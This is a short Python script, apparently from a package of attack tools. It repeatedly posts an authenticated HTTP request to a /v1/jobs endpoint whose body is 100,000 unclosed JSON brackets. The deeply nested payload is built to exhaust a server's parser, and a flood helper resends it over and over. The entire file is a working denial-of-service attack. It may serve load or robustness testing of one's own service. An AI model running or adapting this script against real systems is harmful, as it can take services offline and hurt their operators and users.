"""Posts deeply nested JSON with a valid token (the last argument), again and again."""

import sys

from attacks.flood import Part, main

BODY = b"[" * 100_000


def parts() -> list[Part]:
    head = "POST /v1/jobs HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
    return [f"{head}Authorization: Bearer {sys.argv[5]}\r\nContent-Length: {len(BODY)}\r\n\r\n".encode() + BODY]


if __name__ == "__main__":
    main(parts, again=True)
